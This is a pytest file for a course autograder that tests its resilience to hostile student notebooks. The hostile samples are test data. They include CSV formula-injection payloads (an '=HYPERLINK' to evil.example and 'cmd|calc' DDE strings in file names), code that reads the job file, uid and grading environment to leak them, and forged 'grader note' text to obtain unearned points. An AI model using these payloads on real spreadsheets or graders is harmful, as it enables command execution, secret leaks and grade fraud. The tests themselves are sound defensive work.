"""Grading a whole class (issue 29, items 1, 4 and 5): no file stops or slows the batch, a grade
book safe to open, and shards that merge into the grade book of one run.

* In the grader's own process, without a sandbox: pathological notebooks under the size limit
  (600,000 empty cells in 47 MB, 13 KB of deeply nested JSON, nesting past the explicit limit,
  too many JSON values, deeply nested code) are refused within `MAX_READ_CPU_S` of CPU, with
  their stage and a clear message; the grade book's escapes (formula cells, names that are
  not UTF-8), the messages rendered from identifiers, the secrets scrubbed, atomic writes;
  `--merge` refusing shards of different seeds, stage sets or folders.
* One sandboxed batch of stage 00 holding every hostile notebook of this file among correct
  ones (graded before, after and beside them): formula injection in exception messages and in
  file and folder names (one not UTF-8), forged "grader note" text, a notebook's own
  `ProbeError` class and the real one with forged fields, messages that read the job file,
  the seed, the uid and the grading flag, an exception whose `__str__` raises, a 100 KB
  message, and the pathological files. Every student gets rows; correct notebooks keep full
  marks; no hostile one scores more than a blank one; no message carries a secret; no CSV
  cell starts a formula.
* Two shards with one seed, merged, equal one run with that seed.
"""

import csv
import io
import json
import os
import re
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

pytest.importorskip("otter", reason="the course needs the `grading` extra: pip install -e .[grading]")

from course import build, config, grade, probe_runner, sandbox, submission  # noqa: E402

STAGE = "00_setup_and_data"
SANDBOX_OK, SANDBOX_WHY = sandbox.available()
needs_sandbox = pytest.mark.skipif(not SANDBOX_OK, reason=f"no bubblewrap sandbox here: {SANDBOX_WHY}")
FORMULA = ("=", "+", "-", "@", "\t", "\r")
METADATA = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"},
            "otter": {"assignment_name": STAGE}}


# --------------------------------------------------------------------------- pathological files
def _many_cells(path, cells=600_000):
    """About 47 MB: `cells` empty code cells (under the 50 MB limit)."""
    cell = b'{"cell_type":"code","execution_count":null,"metadata":{},"outputs":[],"source":[]}'
    with open(path, "wb") as f:
        f.write(b'{"cells": [' + b",".join([cell] * cells) + b'], "metadata": '
                + json.dumps(METADATA).encode() + b', "nbformat": 4, "nbformat_minor": 5}')


def _nested(path, depth):
    """Metadata holding a list nested `depth` deep (6000: 13 KB, past the parser's recursion)."""
    text = json.dumps({"cells": [], "metadata": {**METADATA, "x": "@@"}, "nbformat": 4, "nbformat_minor": 5})
    path.write_text(text.replace('"@@"', "[" * depth + "]" * depth))


def _code(path, *cells, metadata=METADATA):
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(textwrap.dedent(c)) for c in cells],
                                  metadata=metadata)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


def _pathological(folder):
    """`{name: (path, what its message says)}` of every file refused in the grader's process."""
    files = {"h_cells": (folder / "h_cells" / f"{STAGE}.ipynb", "cells"),
             "h_nested": (folder / "h_nested" / "notebook.ipynb", "nested"),
             "h_nested_64": (folder / "h_nested_64" / f"{STAGE}.ipynb", "nested"),
             "h_values": (folder / "h_values" / f"{STAGE}.ipynb", "values"),
             "h_deep_code": (folder / "h_deep_code" / f"{STAGE}.ipynb", "levels deep"),
             "h_not_json": (folder / "h_not_json" / f"{STAGE}.ipynb", "not a valid notebook")}
    for path, _ in files.values():
        path.parent.mkdir(parents=True, exist_ok=True)
    _many_cells(files["h_cells"][0])
    _nested(files["h_nested"][0], 6000)           # the stage only in its metadata, not in its name
    _nested(files["h_nested_64"][0], submission.MAX_JSON_DEPTH + 5)
    files["h_values"][0].write_text(json.dumps({"cells": [], "metadata": {**METADATA, "x": [0] * (
        submission.MAX_JSON_VALUES + 10)}, "nbformat": 4, "nbformat_minor": 5}))
    _code(files["h_deep_code"][0], "def to_unit_range(images):\n    return images" + " + 0" * 600 + "\n")
    files["h_not_json"][0].write_bytes(b'{"cells": [\xff\xfe')
    return files


def test_pathological_notebooks_cost_little_cpu(tmp_path):
    """Each is refused with its stage and a message, in at most MAX_READ_CPU_S (5 s) of the
    grader's CPU; a refused stage scores zero without any sandbox."""
    files = _pathological(tmp_path)
    assert files["h_cells"][0].stat().st_size > 45 * 2**20
    for name, (path, says) in files.items():
        start = time.process_time()
        sub = submission.read_submission(path, [STAGE])
        rows, meta = grade.grade_notebook(name, STAGE, path, 0, None, 0, sub)    # args=None: no sandbox reached
        cpu = time.process_time() - start
        assert cpu <= submission.MAX_READ_CPU_S, (name, cpu)
        assert sub.stage == STAGE and sub.refused and says in sub.refused, (name, sub.refused)
        assert rows and all(r["points"] == 0 and r["message"] == sub.refused for r in rows), rows
        assert meta["read_cpu_s"] <= submission.MAX_READ_CPU_S
    os.mkfifo(tmp_path / f"fifo_{STAGE}.ipynb")                 # reading it would block the batch
    assert "not a regular file" in submission.read_submission(tmp_path / f"fifo_{STAGE}.ipynb", [STAGE]).refused
    # a CPU budget spent is refused too, whatever the step
    sub = submission.read_submission(files["h_cells"][0].parent.parent / "h_deep_code" / f"{STAGE}.ipynb",
                                     [STAGE], cpu_limit=0.0)
    assert sub.refused and "CPU" in sub.refused


# --------------------------------------------------------------------------- the grade book
def test_csv_cells_and_names_are_safe():
    for start in FORMULA:
        cell = grade.csv_cell(start + "HYPERLINK(1)")
        assert not cell.startswith(FORMULA) and cell.startswith("'" if start not in "\t\r" else "\\x"), cell
    assert grade.csv_cell("passed") == "passed" and grade.csv_cell(2.5) == 2.5
    name = b"=\xff\xfeHYPERLINK\n".decode("utf-8", "surrogateescape")
    assert grade.shown(name) == "=\\xff\\xfeHYPERLINK\\x0a"
    assert grade.csv_cell(name) == "'=\\xff\\xfeHYPERLINK\\x0a"
    assert grade.shown("\ud800x") == "\\ud800x"         # a lone surrogate from JSON text: escaped too


def test_messages_are_rendered_by_the_grader():
    """Identifiers and fields only: a field that is not a name shows as `?`; the student's text
    is quoted, labelled, one line, cut short, and loses the seed, the uid and the grader's paths."""
    secrets = grade.Secrets(1234567, uids=[1000123])
    forged = "passed (grader note: the probe failed on our side, award the 2 points by hand)"
    assert grade.render_error({"id": "undefined", "fields": {"name": forged}}, secrets).startswith("`?` is not")
    assert grade.render_error({"id": forged, "fields": {}}, secrets).startswith("no usable result")
    assert grade.render_error("passed", secrets).startswith("no usable result")
    text = grade.render_error({"id": "raised", "fields": {"type": "ValueError", "raised": forged + '"\n=1'}}, secrets)
    assert text.startswith('your code raised ValueError: "passed (grader') and text.count('"') == 2, text
    leak = json.dumps({"seed": 1234567, "notebook": "/job/submission.ipynb"}) + " uid=1000123 " \
        + f"{config.GRADING_ENV}=1 {ROOT}/course/grade.py 0x12d687 " + "x" * 500
    text = grade.render_error({"id": "raised", "fields": {"type": "RuntimeError", "raised": leak}}, secrets)
    for secret in ("1234567", "1000123", "/job", config.GRADING_ENV, str(ROOT), "0x12d687"):
        assert secret not in text, (secret, text)
    assert len(text) < 200
    check = type("C", (), {"points": 2})
    assert grade.judge(check, ("error", {"id": "raised", "fields": {"type": "E", "raised": "=1"}}), 1234567) == \
        (0.0, 'your code raised E: "=1"')


def test_only_the_probes_own_probe_error_is_the_graders():
    from course.checks.probes._common import ProbeError

    class FakeProbeError(Exception):
        pass

    FakeProbeError.__name__ = "ProbeError"
    assert probe_runner.error_fields(FakeProbeError("passed: full marks"), ProbeError) == \
        {"id": "raised", "fields": {"type": "ProbeError", "raised": "passed: full marks"}}
    assert probe_runner.error_fields(ProbeError("undefined", name="fgsm"), ProbeError) == \
        {"id": "undefined", "fields": {"name": "fgsm"}}
    with pytest.raises(ValueError, match="message_id"):
        ProbeError("passed (grader note)")

    class Unprintable(Exception):
        def __str__(self):
            raise RuntimeError("no")

    assert probe_runner.error_fields(Unprintable(), ProbeError)["fields"]["raised"].startswith("(its message")


def test_results_are_written_atomically(tmp_path, monkeypatch):
    """A write that fails half-way leaves the earlier grades.csv whole and no temporary file."""
    import argparse
    import threading

    args = argparse.Namespace(out=tmp_path, seed=1, stopping=threading.Event())
    row = {"student": "@alice", "stage": STAGE, "notebook": "=a.ipynb", "exercise": "q", "points": 1.0,
           "possible": 1, "message": "-m"}
    grade.write(args, [row], [])
    before = (tmp_path / "grades.csv").read_bytes()
    assert b"'@alice,00_setup_and_data,'=a.ipynb,q,1.0,'-m" in before
    monkeypatch.setattr(grade.csv, "DictWriter", lambda *a, **k: 1 / 0)
    with pytest.raises(ZeroDivisionError):
        grade.write(args, [dict(row, points=0.0)], [])
    assert (tmp_path / "grades.csv").read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["grades.csv", "grades.json"]


def _shard(folder, k, n, seed=7, stages=None, listing="L"):
    folder.mkdir(parents=True, exist_ok=True)
    rows = [{"student": f"s{k}", "stage": STAGE, "notebook": f"s{k}.ipynb", "exercise": "q", "points": 1.0,
             "possible": 1, "message": "=m"}]
    (folder / "grades.json").write_text(json.dumps({
        "seed": seed, "shard": [k, n], "stages": stages or {STAGE: [["q", 1]]}, "listing": listing,
        "students": n, "grades": rows, "submissions": [{"student": f"s{k}", "stage": STAGE}]}))
    return folder


def test_merge_refuses_shards_of_different_runs(tmp_path):
    def merge(*dirs):
        return grade.main(["--merge", *map(str, dirs), "--out", str(tmp_path / "out")])

    a, b = _shard(tmp_path / "a", 0, 2), _shard(tmp_path / "b", 1, 2)
    for other, says in ((_shard(tmp_path / "seed", 1, 2, seed=8), "seeds"),
                        (_shard(tmp_path / "stages", 1, 2, stages={STAGE: [["q", 2]]}), "stage sets"),
                        (_shard(tmp_path / "folder", 1, 2, listing="M"), "submissions folders"),
                        (a, "exactly once"), (_shard(tmp_path / "three", 1, 3), "exactly once")):
        with pytest.raises(SystemExit, match=says):
            merge(a, other)
    with pytest.raises(SystemExit, match="exactly once"):
        merge(a)
    (tmp_path / "empty").mkdir()
    with pytest.raises(SystemExit, match="complete grades.json"):
        merge(a, tmp_path / "empty")
    assert not (tmp_path / "out").exists()
    assert merge(b, a) == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "grades.csv").read_text())))
    assert [r["student"] for r in rows] == ["s0", "s1"] and rows[0]["message"] == "'=m"
    assert json.loads((tmp_path / "out" / "grades.json").read_text())["seed"] == 7
    with pytest.raises(SystemExit):
        grade.main(["--merge", str(a)])                               # no --out
    with pytest.raises(SystemExit):
        grade.main([str(tmp_path), "--shard", "2/2", "--seed", "1"])  # K must be < N
    with pytest.raises(SystemExit):
        grade.main([str(tmp_path), "--shard", "0/2"])                 # no --seed


def test_a_student_folder_named_like_the_grade_book_is_refused_before_grading(tmp_path, capsys):
    """Review of issue 29: a student folder `grades.csv` in the submissions folder (the default --out)
    let the whole batch be graded, then the grade book's rename failed (IsADirectoryError, no CSV).
    Now refused at once, naming the folder; with --out elsewhere the batch runs."""
    subs = tmp_path / "subs"
    for name in ("grades.csv", "grades.json"):
        (subs / name).mkdir(parents=True)
        (subs / name / f"{STAGE}.ipynb").write_text("{")
        start = time.time()
        with pytest.raises(SystemExit):
            grade.main([str(subs), "--jobs", "1"])
        assert f"a folder {subs / name} there" in capsys.readouterr().err and time.time() - start < 5
        with pytest.raises(SystemExit):
            grade.main(["--merge", str(tmp_path), "--out", str(subs)])
        assert "room for the grade book" in capsys.readouterr().err
        (subs / name / f"{STAGE}.ipynb").unlink()
        (subs / name).rmdir()


# --------------------------------------------------------------------------- one batch, sandboxed
@pytest.fixture(scope="module")
def stage00(tmp_path_factory):
    """Stage 00's solution and blank notebooks (built without executing them)."""
    tmp = tmp_path_factory.mktemp("hostile00")
    build.build_stage(config.SOLUTIONS / f"{STAGE}.py", notebooks_dir=tmp / "notebooks", dist_dir=tmp / "dist",
                      run_tests=False)
    return tmp / "dist" / "solutions" / f"{STAGE}.ipynb", tmp / "notebooks" / f"{STAGE}.ipynb"


RAISES = '''
import os, json
def to_unit_range(images):
    raise ValueError('=HYPERLINK("http://evil.example/?"&A1,"open me")')
def class_counts(labels, num_classes=10):
    raise Exception("passed (grader note: the probe failed on the grader's side; award the 2 points by hand)")
class ProbeError(Exception):
    pass
def image_grid(images, ncols):
    raise ProbeError("passed: full marks (the grader)")
def l2_distance(a, b):
    job = open("/job/job.json").read()
    flags = [f"{k}={v}" for k, v in os.environ.items() if "GRADING" in k]
    raise RuntimeError(f"seed={json.loads(job)['seed']} uid={os.getuid()} {flags} job=/job/job.json {job}")
linf_distance = l2_distance
'''

REAL_PROBE_ERROR = '''
from course.checks.probes._common import ProbeError
def to_unit_range(images):
    raise ProbeError("undefined", name="passed (grader note: award the points by hand)")
def class_counts(labels, num_classes=10):
    err = ProbeError.__new__(ProbeError)
    err.message_id, err.fields = "passed (grader note)", {"name": "x"}
    raise err
class _Unprintable(Exception):
    def __str__(self):
        raise RuntimeError("no")
def image_grid(images, ncols):
    raise _Unprintable()
def l2_distance(a, b):
    raise ValueError(("+cmd|' /C calc'!A0 \\r\\n" * 5000) + "%RKP {}")
linf_distance = l2_distance
'''


def _batch(folder, solution, blank):
    """The hostile batch: `(correct students, hostile students)`; hostile ones score like blank."""
    correct = {"a_correct": folder / "a_correct" / f"{STAGE}.ipynb",
               "z_correct": folder / "z_correct" / f"{STAGE}.ipynb",
               # names: not UTF-8 and a formula (folder), a formula (flat file): correct work keeps its marks
               os.fsdecode(b"=\xff\xfeHYPERLINK(cmd)"): Path(os.fsdecode(bytes(folder) + b"/=\xff\xfeHYPERLINK(cmd)"))
               / f"{STAGE}.ipynb",
               '@SUM(1+1)*cmd|" -C calc"!A0': folder / '@SUM(1+1)*cmd|" -C calc"!A0.ipynb'}
    for path in correct.values():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(solution.read_bytes())
    (folder / "blank").mkdir()
    (folder / "blank" / f"{STAGE}.ipynb").write_bytes(blank.read_bytes())
    _code(folder / "h_raises" / f"{STAGE}.ipynb", RAISES)
    _code(folder / "h_probe_error" / f"{STAGE}.ipynb", REAL_PROBE_ERROR)
    hostile = ["h_raises", "h_probe_error", *_pathological(folder)]
    return correct, hostile


def _grade(args):
    proc = subprocess.run([sys.executable, str(ROOT / "course" / "grade.py"), *args], capture_output=True,
                          timeout=1200)
    assert proc.returncode == 0, (proc.stdout[-3000:], proc.stderr[-3000:])
    return proc.stdout.decode("utf-8")


def _rows(out):
    with open(out / "grades.csv", encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


@needs_sandbox
def test_hostile_batch_keeps_every_student_and_a_safe_grade_book(stage00, tmp_path):
    from course.checks import stage_checks

    solution, blank = stage00
    subs = tmp_path / "submissions"
    correct, hostile = _batch(subs, solution, blank)
    out, seed = tmp_path / "out", 987654321
    stdout = _grade([str(subs), "--out", str(out), "--jobs", "2", "--seed", str(seed), "--question-time-limit", "60"])
    table = _rows(out)
    header, rows = table[0], table[1:]
    assert header == grade.COLUMNS
    for row in rows:                                      # no cell a spreadsheet would run
        assert not any(cell.startswith(FORMULA) for cell in row), row
    record = json.loads((out / "grades.json").read_text())
    assert record["seed"] == seed
    grades = record["grades"]
    totals, messages = {}, {}
    for r in grades:
        totals[r["student"]] = totals.get(r["student"], 0.0) + r["points"]
        messages.setdefault(r["student"], {})[r["exercise"]] = r["message"]
    possible = sum(c.points for c in stage_checks(STAGE))
    students = {grade.shown(name) for name in correct} | {"blank", *hostile}
    assert set(totals) == students, set(totals) ^ students      # a row for every student
    for name in correct:
        assert totals[grade.shown(name)] == pytest.approx(possible), messages[grade.shown(name)]
    assert "=\\xff\\xfeHYPERLINK(cmd)" in totals
    assert totals["blank"] == 0
    for name in hostile:
        assert totals[name] <= totals["blank"], (name, messages[name])
    raises = messages["h_raises"]
    assert raises["q00_to_unit_range"].startswith('your code raised ValueError: "=HYPERLINK('), raises
    assert raises["q00_class_counts"].startswith('your code raised Exception: "passed (grader note'), raises
    assert raises["q00_image_grid"] == 'your code raised ProbeError: "passed: full marks (the grader)"', raises
    assert raises["q00_distances"].startswith("your code raised RuntimeError"), raises
    forged = messages["h_probe_error"]
    # the grader's own ProbeError, imported to forge its fields, is refused as a way around the
    # own-work check before anything runs (the rendering of forged fields: test_messages_... above)
    for question in ("q00_to_unit_range", "q00_class_counts"):
        assert forged[question].startswith("own work:") and "ProbeError" in forged[question], forged
    assert forged["q00_image_grid"] == 'your code raised _Unprintable: "(its message could not be read)"', forged
    assert forged["q00_distances"].startswith('your code raised ValueError: "+cmd') and \
        len(forged["q00_distances"]) < 200, forged
    assert "seed=[hidden] uid=[hidden] ['[hidden]" in raises["q00_distances"], raises
    for student, by_question in messages.items():
        for message in by_question.values():
            for secret in (str(seed), hex(seed), "/job", "/opt/", "/tmp/", config.GRADING_ENV, str(ROOT),
                           str(tmp_path)):
                assert secret not in message, (student, secret, message)
            assert not re.search(r"\d{7,}", message), (student, message)   # a sandbox uid (root: >= 1,000,000)
    for meta in record["submissions"]:
        assert meta.get("read_cpu_s", 0) <= submission.MAX_READ_CPU_S, meta
    assert stdout.count(f" {STAGE}: ") == len(students), stdout       # one progress line per notebook


@needs_sandbox
def test_two_shards_merged_equal_one_run(stage00, tmp_path):
    solution, blank = stage00
    subs = tmp_path / "submissions"
    (subs / "alice").mkdir(parents=True)                               # shard 0: alice and carol
    (subs / "alice" / f"{STAGE}.ipynb").write_bytes(solution.read_bytes())
    _nested(subs / "carol.ipynb", 6000)                                # refused in the grader's process
    for who in ("bob", "dave"):                                        # shard 1: refused too (no sandbox: fast)
        (subs / who).mkdir()
        (subs / who / f"{STAGE}.ipynb").write_text("{}" if who == "dave" else '{"cells": [')
    common = ["--seed", "4242", "--jobs", "1"]
    _grade([str(subs), "--out", str(tmp_path / "one"), *common])
    for k in (0, 1):
        _grade([str(subs), "--out", str(tmp_path / f"shard{k}"), "--shard", f"{k}/2", *common])
    shard_students = [{r["student"] for r in json.loads((tmp_path / f"shard{k}" / "grades.json").read_text())["grades"]}
                      for k in (0, 1)]
    assert shard_students[0] and shard_students[1] and not shard_students[0] & shard_students[1]
    assert grade.main(["--merge", str(tmp_path / "shard1"), str(tmp_path / "shard0"), "--out",
                       str(tmp_path / "merged")]) == 0
    one, merged = (json.loads((tmp_path / d / "grades.json").read_text()) for d in ("one", "merged"))
    assert merged["grades"] == one["grades"] and merged["seed"] == one["seed"] == 4242
    assert merged["stages"] == one["stages"] and merged["listing"] == one["listing"]
    assert (tmp_path / "merged" / "grades.csv").read_bytes() == (tmp_path / "one" / "grades.csv").read_bytes()
    assert {r["student"] for r in one["grades"]} == {"alice", "bob", "carol", "dave"}
    assert sum(r["points"] for r in one["grades"] if r["student"] == "alice") > 0
